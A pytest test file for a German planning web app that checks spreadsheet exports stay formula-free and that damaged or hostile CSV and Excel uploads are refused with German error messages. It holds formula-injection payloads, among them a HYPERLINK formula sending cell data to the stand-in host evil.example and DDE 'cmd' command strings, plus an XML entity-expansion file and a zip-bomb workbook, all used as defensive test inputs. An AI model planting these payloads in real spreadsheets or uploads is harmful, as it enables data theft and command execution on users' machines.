"""Issue 10, defects 3, 12 and 13 (CSV): no formulas from user text in any spreadsheet we write,
no 500 from a damaged workbook, hostile CSV files refused with the reason."""

from __future__ import annotations

import io
import zipfile
from datetime import date

import pytest
from openpyxl import Workbook, load_workbook

from planner.domain.maturity import Assessment, Criterion
from planner.formats import result_sheet
from planner.formats.criteria import (
    CriteriaFileError,
    criteria_to_csv,
    criteria_to_xlsx,
    parse_criteria_file,
    parse_csv,
    parse_xlsx,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&B5,"Bitte klicken")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "'=1+1",
    "''",
    "'vorne Apostroph",
]


def _cells(data: bytes):
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_anlage_1_xlsx_never_holds_a_formula():
    assessment = Assessment(date=date(2024, 11, 7), levels={"Interaktion": 2}, note=HOSTILE[0])
    data = result_sheet.sheet_xlsx("=1+1 Gesundheitsamt", assessment)
    cells = _cells(data)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    assert HOSTILE[0] in values  # the note, word for word, as text
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml


def test_criteria_exports_never_hold_a_formula_and_read_back():
    criteria = [Criterion("Interaktion", 0, text, note) for text, note in zip(HOSTILE, reversed(HOSTILE), strict=True)]
    csv_bytes = criteria_to_csv(criteria)
    for line in csv_bytes.decode("utf-8-sig").splitlines()[1:]:
        for cell in line.split(";"):
            cell = cell.strip('"')
            assert not cell.startswith(("=", "+", "-", "@", "\t")), line
    assert parse_csv(csv_bytes) == [
        Criterion(c.subdimension, c.stage, " ".join(c.text.split()), c.note.strip()) for c in criteria
    ]
    xlsx = criteria_to_xlsx(criteria)
    assert not [c.coordinate for c in _cells(xlsx) if c.data_type == "f"]
    assert parse_xlsx(xlsx) == parse_csv(csv_bytes)


def test_csv_escape_round_trip():
    from planner.formats.spreadsheet import csv_escape, csv_unescape

    for text in [*HOSTILE, "", "normal", "'", "a'b", "-", "=", "Stufe 3"]:
        assert csv_unescape(csv_escape(text)) == text
        escaped = csv_escape(text)
        assert escaped[:1] not in ("=", "+", "-", "@", "\t", "\r", "\n") or escaped == text == ""


@pytest.mark.db
def test_criteria_catalogue_download_escapes_formulas(client, app, sample_id):
    # typed by someone into their own spreadsheet: stored as written, exported harmless
    data = b"Subdimension;Stufe;Kriterium;Hinweis\nInteraktion;0;=cmd|' /C calc'!A0;@SUM(1)\n"
    response = client.post(
        f"/strategien/{sample_id}/reifegrad/kriterien",
        data={"file": (io.BytesIO(data), "k.csv")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 302, response.text
    export = client.get(f"/strategien/{sample_id}/reifegrad/kriterien/katalog.csv").data.decode("utf-8-sig")
    assert "'=cmd|' /C calc'!A0" in export and "'@SUM(1)" in export
    assert "\n=" not in export and ";=" not in export and ";@" not in export


def _xlsx_with_sheet(sheet_xml: bytes) -> bytes:
    """A real workbook whose first sheet is replaced by the given XML."""
    book = Workbook()
    book.active.append(["Subdimension", "Stufe", "Kriterium"])
    out = io.BytesIO()
    book.save(out)
    src = zipfile.ZipFile(io.BytesIO(out.getvalue()))
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = sheet_xml if item.filename == "xl/worksheets/sheet1.xml" else src.read(item)
            dst.writestr(item, data)
    return target.getvalue()


def _zip(members: dict[str, bytes]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as dst:
        for name, data in members.items():
            dst.writestr(name, data)
    return target.getvalue()


SHEET_HEAD = b'<?xml version="1.0" encoding="UTF-8"?>'
SHEET_NS = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
BROKEN_WORKBOOKS = {
    "DOCTYPE": _xlsx_with_sheet(
        SHEET_HEAD
        + b'<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">]>'
        + SHEET_NS
        + b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol2;</t></is></c></row></sheetData></worksheet>'
    ),
    "abgeschnittenes XML": _xlsx_with_sheet(
        SHEET_HEAD + SHEET_NS + b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Subdim'
    ),
    "kaputtes XML": _xlsx_with_sheet(SHEET_HEAD + SHEET_NS + b"<sheetData><row r=1></sheetData>"),
    "Zip-Bombe": _xlsx_with_sheet(
        SHEET_HEAD + SHEET_NS + b"<sheetData>" + b" " * 60_000_000 + b"</sheetData></worksheet>"
    ),
    "leeres Zip": _zip({}),
    "Zip ohne Arbeitsmappe": _zip({"hallo.txt": b"hallo"}),
    "abgeschnittenes Zip": _xlsx_with_sheet(SHEET_HEAD + SHEET_NS + b"<sheetData/></worksheet>")[:300],
    "kein Zip": b"Subdimension;Stufe;Kriterium\n",
    "leer": b"",
}


@pytest.mark.parametrize("name", list(BROKEN_WORKBOOKS))
def test_broken_workbooks_are_refused_in_german(name):
    with pytest.raises(CriteriaFileError) as info:
        parse_criteria_file("k.xlsx", BROKEN_WORKBOOKS[name])
    assert info.value.problems[0].startswith("Die Datei ist keine lesbare Excel-Arbeitsmappe"), info.value.problems


@pytest.mark.db
def test_broken_workbook_upload_answers_422(client, sample_id):
    for name, data in BROKEN_WORKBOOKS.items():
        if name == "Zip-Bombe":
            continue  # large: covered by the unit test above
        response = client.post(
            f"/strategien/{sample_id}/reifegrad/kriterien",
            data={"file": (io.BytesIO(data), "k.xlsx")},
            content_type="multipart/form-data",
        )
        assert response.status_code == 422, name
        assert "keine lesbare Excel-Arbeitsmappe" in response.text, name


def test_csv_with_a_nul_byte_is_refused():
    with pytest.raises(CriteriaFileError) as info:
        parse_csv(b"Subdimension;Stufe;Kriterium\nInteraktion;0;Text\x00mit Null\n")
    assert info.value.problems == [
        "Zeile 2: Die Datei enthält ein NUL-Zeichen (Byte 0). Ist es wirklich eine CSV-Textdatei?"
    ]


def test_csv_with_an_unclosed_quote_is_refused():
    with pytest.raises(CriteriaFileError) as info:
        parse_csv(b'Subdimension;Stufe;Kriterium\nInteraktion;0;"offen\nInteraktion;1;zweite\n')
    assert len(info.value.problems) == 1
    assert info.value.problems[0].startswith("Zeile 2: Die CSV-Datei ist fehlerhaft (ein Anführungszeichen wird")


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32"])
def test_csv_in_utf16_names_the_encoding(encoding):
    data = "Subdimension;Stufe;Kriterium\nInteraktion;0;Text\n".encode(encoding)
    with pytest.raises(CriteriaFileError) as info:
        parse_csv(data)
    expected = "UTF-32" if "32" in encoding else "UTF-16"
    assert info.value.problems[0].startswith(f"Die Datei ist {expected}-kodiert. Bitte als „CSV UTF-8")
